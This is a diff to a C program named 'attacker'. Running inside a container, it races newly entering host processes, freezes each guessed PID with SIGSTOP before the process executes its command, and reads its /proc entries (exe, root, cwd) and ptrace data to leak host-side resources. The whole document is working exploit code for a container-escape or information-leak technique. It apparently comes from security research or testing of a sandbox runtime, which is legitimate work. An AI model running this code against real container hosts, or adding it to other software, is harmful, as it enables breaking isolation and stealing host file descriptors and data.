@@ -1,7 +1,7 @@
 /*
  * A process in a box that wants what a newcomer brings from the host, in the moment before it executes its command. It
- * waits for new numbers in /proc, and stops each: whoever has not executed the command by then is held in that moment. At
- * those it tries all that proc(5) and ptrace(2) offer, and prints what it gets.
+ * stops each new process: whoever has not executed the command by then is held in that moment. At those it tries all that
+ * proc(5) and ptrace(2) offer, and prints what it gets.
  *
  * usage: attacker SECONDS COMMAND    COMMAND: the name, in /proc/PID/comm, of who is no prey
  */
@@ -59,11 +59,10 @@ static void read_it(int pid, const char *comm, const char *command, const char *
   if (!is_command(pid, command, now)) got(name, pid, comm, text);
 }
 
-/* Whether it has stopped, and not executed the command before. */
-static int hold(int pid, const char *command, char *comm) {
+/* Waits until it has stopped. Whether it has not executed the command before. */
+static int is_held(int pid, const char *command, char *comm) {
   char path[64], text[400];
   snprintf(path, sizeof path, "/proc/%d/stat", pid);
-  if (kill(pid, SIGSTOP) != 0) return 0;
   for (;;) {
     int fd = open(path, O_RDONLY);
     if (fd < 0) return 0;
@@ -79,7 +78,7 @@ static int hold(int pid, const char *command, char *comm) {
 
 static void attack(int pid, const char *command) {
   char comm[32];
-  if (hold(pid, command, comm)) {
+  if (is_held(pid, command, comm)) {
     follow(pid, comm, command, "exe", O_PATH);
     follow(pid, comm, command, "root", O_PATH);
     follow(pid, comm, command, "cwd", O_PATH);
@@ -107,12 +106,10 @@ int main(int argc, char **argv) {
   setvbuf(stdout, NULL, _IOLBF, 0);
   time_t end = time(NULL) + atoi(argv[1]);
   puts("READY");
-  /* Numbers are given in order: the newcomer is the next. */
+  /* Numbers are given in order: the newcomer is the next, or one of those after it if some were missed. */
   for (int last = getpid(); time(NULL) < end;) {
-    for (int pid = last + 1; pid < last + 4; pid++) {
-      char path[32];
-      snprintf(path, sizeof path, "/proc/%d", pid);
-      if (access(path, F_OK) != 0) continue;
+    for (int pid = last + 1; pid < last + 16; pid++) {
+      if (kill(pid, SIGSTOP) != 0) continue;
       attack(pid, argv[2]);
       last = pid;
       break;
